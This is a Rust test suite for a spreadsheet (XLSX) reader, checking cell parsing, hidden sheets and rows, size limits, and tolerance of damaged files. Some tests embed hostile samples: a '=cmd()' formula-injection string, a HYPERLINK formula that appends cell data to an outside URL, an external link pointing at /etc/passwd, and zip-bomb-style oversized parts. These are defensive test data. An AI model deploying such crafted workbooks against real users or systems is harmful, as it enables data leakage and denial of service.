use std::io::{Cursor, Write};

use zip::ZipWriter;
use zip::write::SimpleFileOptions;

use crate::{Cell, Fault, Limits, Row, Sheet, workbook};

const TYPES: &str =
    r#"<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>"#;
const RELATIONS: &str = r#"<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="a" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>"#;
const WORKBOOK: &str = r#"<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="Log" sheetId="1" r:id="s1"/><sheet name="Old" sheetId="2" state="hidden" r:id="s2"/></sheets></workbook>"#;
const SHEETS: &str = r#"<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="s1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="s2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet2.xml"/></Relationships>"#;
/// Style 1 is a percentage, style 2 a day.
const STYLES: &str = r#"<styleSheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><cellXfs count="3"><xf numFmtId="0"/><xf numFmtId="10" applyNumberFormat="1"/><xf numFmtId="14" applyNumberFormat="1"/></cellXfs></styleSheet>"#;
const SHARED: &str = r#"<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>=cmd()</t></si></sst>"#;

/// A workbook whose first sheet has these rows, with some parts replaced.
fn made(rows: &str, replaced: &[(&str, &str)]) -> Vec<u8> {
    let sheet = |rows: &str| {
        format!(
            r#"<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>{rows}</sheetData></worksheet>"#
        )
    };
    let (first, second) = (sheet(rows), sheet(""));
    let mut out = ZipWriter::new(Cursor::new(Vec::new()));
    for (name, text) in [
        ("[Content_Types].xml", TYPES),
        ("_rels/.rels", RELATIONS),
        ("xl/workbook.xml", WORKBOOK),
        ("xl/_rels/workbook.xml.rels", SHEETS),
        ("xl/styles.xml", STYLES),
        ("xl/sharedStrings.xml", SHARED),
        ("xl/worksheets/sheet1.xml", &first),
        ("xl/worksheets/sheet2.xml", &second),
    ] {
        let found = replaced.iter().find(|(other, _)| *other == name);
        let text = found.map_or(text, |(_, text)| text);
        out.start_file(name, SimpleFileOptions::default()).unwrap();
        out.write_all(text.as_bytes()).unwrap();
    }
    out.finish().unwrap().into_inner()
}

fn first_rows(rows: &str) -> Vec<Row> {
    workbook(&made(rows, &[]), &Limits::USUAL).unwrap()[0]
        .rows
        .clone()
}

fn refused(rows: &str, limits: &Limits) -> Fault {
    workbook(&made(rows, &[]), limits).unwrap_err()
}

fn number(text: &str, percent: bool) -> Cell {
    let text = text.to_owned();
    Cell::Number { text, percent }
}

#[test]
fn sheets_come_in_the_order_of_their_tabs_and_hidden_ones_are_marked() {
    let sheets = workbook(&made("", &[]), &Limits::USUAL).unwrap();
    let sheet = |name: &str, hidden| Sheet {
        name: name.to_owned(),
        hidden,
        rows: vec![],
    };
    assert_eq!(sheets, [sheet("Log", false), sheet("Old", true)]);
}

#[test]
fn a_cell_of_every_kind() {
    let rows = r#"<row r="3"><c r="A3" t="s"><v>0</v></c><c r="B3"><v>61.2</v></c><c r="C3" s="1"><v>0.612</v></c><c r="D3" s="2"><v>46112</v></c><c r="E3" t="b"><v>1</v></c><c r="F3" t="e"><v>#DIV/0!</v></c><c r="H3" t="inlineStr"><is><t>007</t></is></c></row>"#;
    // 46112 days after 30 December 1899 is 31 March 2026.
    assert_eq!(
        first_rows(rows),
        [Row {
            number: 3,
            hidden: false,
            cells: vec![
                (0, Cell::Text("=cmd()".to_owned())),
                (1, number("61.2", false)),
                (2, number("0.612", true)),
                (3, Cell::Date("2026-03-31".to_owned())),
                (4, Cell::Boolean(true)),
                (5, Cell::Error("#DIV/0!".to_owned())),
                (7, Cell::Text("007".to_owned())),
            ],
        }]
    );
}

#[test]
fn a_formula_gives_the_value_that_was_saved_with_it() {
    let rows = r#"<row r="1"><c r="A1"><f>1+1</f><v>5</v></c></row>"#;
    assert_eq!(first_rows(rows)[0].cells, [(0, number("5", false))]);
}

#[test]
fn two_cells_in_far_corners_are_refused_and_do_not_fill_the_memory() {
    let far = r#"<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>"#;
    let fault = refused(far, &Limits::USUAL);
    assert_eq!(fault, Fault::too_much("rows in a sheet", 100_000));
    let wide = r#"<row r="1"><c r="XFD1"><v>1</v></c></row>"#;
    let fault = refused(wide, &Limits::USUAL);
    assert_eq!(fault, Fault::too_much("columns in a sheet", 1_000));
}

#[test]
fn the_last_row_and_column_within_the_limits_are_read() {
    let rows = r#"<row r="100000"><c r="ALL100000"><v>1</v></c></row>"#;
    assert_eq!(first_rows(rows)[0].cells, [(999, number("1", false))]);
}

#[test]
fn rows_without_numbers_are_counted_and_refused_too() {
    let many = "<row><c><v>1</v></c></row>".repeat(100_001);
    let fault = refused(&many, &Limits::USUAL);
    assert_eq!(fault, Fault::too_much("rows in a sheet", 100_000));
}

#[test]
fn cells_and_their_texts_are_counted() {
    let two = r#"<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="s"><v>0</v></c></row>"#;
    let limits = Limits {
        cells: 1,
        ..Limits::USUAL
    };
    assert_eq!(refused(two, &limits), Fault::too_much("cells", 1));
    // The one shared text has six bytes and stands in two cells.
    let limits = Limits {
        text: 11,
        ..Limits::USUAL
    };
    assert_eq!(refused(two, &limits), Fault::too_much("bytes of text", 11));
}

#[test]
fn what_is_small_packed_and_huge_unpacked_is_refused() {
    let blank = " ".repeat(64 * 1024 * 1024 + 1);
    let packed = made(&blank, &[]);
    assert!(packed.len() < 1024 * 1024);
    let fault = workbook(&packed, &Limits::USUAL).unwrap_err();
    let most = 64 * 1024 * 1024_u64;
    assert_eq!(fault, Fault::too_much("bytes when unpacked", most));
}

#[test]
fn parts_that_are_held_in_memory_have_limits_of_their_own() {
    let blank = " ".repeat(16 * 1024 * 1024 + 1);
    for (part, most) in [
        ("xl/styles.xml", 2 * 1024 * 1024_u64),
        ("xl/sharedStrings.xml", 16 * 1024 * 1024),
    ] {
        let fault = workbook(&made("", &[(part, &blank)]), &Limits::USUAL).unwrap_err();
        assert_eq!(fault, Fault::too_much("bytes in one of its parts", most));
    }
}

#[test]
fn one_long_name_that_many_styles_share_is_refused() {
    let styles = format!(
        r#"<styleSheet><fonts><font><name val="{}"/></font></fonts><cellXfs>{}</cellXfs></styleSheet>"#,
        "A".repeat(500_000),
        r#"<xf fontId="0"/>"#.repeat(30_000)
    );
    let fault = workbook(&made("", &[("xl/styles.xml", &styles)]), &Limits::USUAL).unwrap_err();
    let most = 96 * 1024 * 1024_u64;
    assert_eq!(fault, Fault::too_much("bytes of styles and names", most));
}

#[test]
fn cells_that_go_backwards_or_come_twice_are_refused() {
    for rows in [
        r#"<row r="1"><c r="B1"><v>1</v></c><c r="A1"><v>1</v></c></row>"#,
        r#"<row r="1"><c r="A1"><v>1</v></c><c r="A1"><v>2</v></c></row>"#,
        r#"<row r="2"><c r="A2"><v>1</v></c></row><row r="1"><c r="A1"><v>1</v></c></row>"#,
    ] {
        assert_eq!(refused(rows, &Limits::USUAL), Fault::NotASpreadsheet);
    }
}

#[test]
fn what_is_no_spreadsheet_is_refused() {
    for bytes in [&b""[..], b"id,title\n", b"PK\x03\x04"] {
        let fault = workbook(bytes, &Limits::USUAL).unwrap_err();
        assert_eq!(fault, Fault::NotASpreadsheet);
    }
}

/// A file cut short anywhere, or with any one byte turned over, is read or refused.
#[test]
fn damage_is_survived() {
    let whole = made(r#"<row r="1"><c r="A1" t="s"><v>0</v></c></row>"#, &[]);
    for at in 0..whole.len() {
        let cut = workbook(&whole[..at], &Limits::USUAL);
        assert!(cut.is_err(), "cut at {at}");
        let mut turned = whole.clone();
        turned[at] ^= 0xff;
        let _ = workbook(&turned, &Limits::USUAL);
    }
}

/// The value that was saved with it is all that is read: the other file is never looked for.
#[test]
fn a_link_to_another_file_is_not_followed() {
    let rows = r#"<row r="1"><c r="A1"><f>[1]Secrets!A1</f><v>5</v></c><c r="B1" t="str"><f>HYPERLINK("http://example.org/?"&amp;A1,"look")</f><v>look</v></c></row>"#;
    let workbook_part = WORKBOOK.replace(
        "</workbook>",
        r#"<externalReferences><externalReference r:id="x1"/></externalReferences></workbook>"#,
    );
    let relations = SHEETS.replace("</Relationships>", r#"<Relationship Id="x1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLink" Target="externalLinks/externalLink1.xml"/></Relationships>"#);
    let file = made(
        rows,
        &[
            ("xl/workbook.xml", &workbook_part),
            ("xl/_rels/workbook.xml.rels", &relations),
        ],
    );
    let with_link = with_part(
        &file,
        "xl/externalLinks/_rels/externalLink1.xml.rels",
        r#"<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" Target="file:///etc/passwd" TargetMode="External"/></Relationships>"#,
    );
    let sheets = workbook(&with_link, &Limits::USUAL).unwrap();
    assert_eq!(
        sheets[0].rows[0].cells,
        [(0, number("5", false)), (1, Cell::Text("look".to_owned()))]
    );
}

/// The same file with one part more.
fn with_part(file: &[u8], name: &str, text: &str) -> Vec<u8> {
    let mut out = ZipWriter::new_append(Cursor::new(file.to_vec())).unwrap();
    out.start_file(name, SimpleFileOptions::default()).unwrap();
    out.write_all(text.as_bytes()).unwrap();
    out.finish().unwrap().into_inner()
}

#[test]
fn hidden_rows_are_marked() {
    let rows = r#"<row r="1"><c r="A1"><v>1</v></c></row><row r="2" hidden="1"><c r="A2"><v>2</v></c></row><row hidden="true"><c><v>3</v></c></row><row r="9" hidden="0"><c r="A9"><v>9</v></c></row>"#;
    let hidden: Vec<(u32, bool)> = first_rows(rows)
        .iter()
        .map(|row| (row.number, row.hidden))
        .collect();
    assert_eq!(hidden, [(1, false), (2, true), (3, true), (9, false)]);
}

#[test]
fn the_older_form_is_told_by_how_it_begins() {
    let bytes = [0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0, 0];
    let fault = workbook(&bytes, &Limits::USUAL).unwrap_err();
    assert_eq!(fault, Fault::OlderForm);
    assert!(fault.to_string().contains("save it as XLSX or ODS"));
}
